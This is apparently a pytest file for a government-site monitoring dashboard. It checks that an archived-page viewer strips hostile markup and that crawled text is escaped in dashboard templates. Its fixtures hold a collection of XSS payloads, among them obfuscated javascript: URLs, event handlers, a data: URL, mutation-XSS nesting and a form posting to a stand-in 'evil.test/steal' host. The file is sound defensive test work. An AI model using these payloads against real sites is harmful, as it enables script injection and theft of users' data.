"""XSS: text from crawled pages reaches our own pages (titles, column names, typo context) and
the archived-page viewer. tests/web/test_evidence.py covers the viewer's stripping of scripts,
handlers, base and frames and its CSP; these add the hostile spellings it does not, and the
escaping of crawled text in the dashboard's own templates."""

from __future__ import annotations

import pytest
from lxml import html as lhtml

from govwatch.monitoring.models import Finding
from govwatch.web.evidence import render_evidence

PAGE = "http://www.junshan.test/czj/tzgg/t1.html"
PAYLOAD = '"><script>alert(1)</script><img src=x onerror=alert(2)>'

HOSTILE = """<!DOCTYPE html><html><head><title>测试</title>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<link rel="import" href="http://evil.test/x.html"></head><body>
<p>请各单位认真组织人员按装消防设施。</p>
<svg onload="alert(1)"><a xlink:href="javascript:alert(2)">svg</a></svg>
<a href=" JaVaScRiPt:alert(3)">链接一</a>
<a href="&#106;avascript:alert(4)">链接二</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==">链接三</a>
<form action="http://evil.test/steal"><input name=q><button formaction="javascript:alert(6)">提交</button></form>
<object data="http://evil.test/x.swf"></object><embed src="x.swf">
<iframe srcdoc="&lt;script&gt;alert(7)&lt;/script&gt;"></iframe>
<div style="background:url(javascript:alert(8))">样式</div>
<math><mtext><table><mglyph><style><img src=x onerror=alert(9)></style></mglyph></table></mtext></math>
</body></html>"""


def test_viewer_neutralises_hostile_spellings():
    out = render_evidence(HOSTILE, PAGE, {"wrong": "按装", "right": "安装"}, "存档快照")
    doc = lhtml.document_fromstring(out)
    # A <form> may stay (it is page content); the viewer's CSP "sandbox" without allow-forms stops
    # any submission (tests/web/test_evidence.py::test_evidence_view_headers).
    assert doc.xpath("//script|//iframe|//object|//embed|//link|//meta[@http-equiv]|//base") == []
    attrs = [(el.tag, k, v) for el in doc.iter() if isinstance(el.tag, str) for k, v in el.attrib.items()]
    assert [a for a in attrs if a[1].lower().startswith("on")] == []
    low = out.lower()
    assert "javascript:" not in low
    assert "data:text/html" not in low
    assert "alert(9)" not in low
    assert "onerror" not in low
    assert "请各单位认真组织人员" in out  # the page text itself survives


@pytest.mark.django_db
def test_crawled_text_is_escaped_in_dashboard_pages(client_for, world):
    f = Finding.objects.filter(unit__code="0107").first()
    f.message = PAYLOAD
    f.evidence = {**f.evidence, "wrong": PAYLOAD, "context": PAYLOAD, "title": PAYLOAD}
    f.save()
    reviewer = client_for("reviewer")
    for path in (f"/findings/{f.pk}/", "/units/0107/", "/review/"):
        r = reviewer.get(path)
        assert r.status_code == 200, path
        body = r.content.decode()
        assert "<script>alert(1)" not in body, path
        assert "<img src=x onerror" not in body, path
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in reviewer.get(f"/findings/{f.pk}/").content.decode()
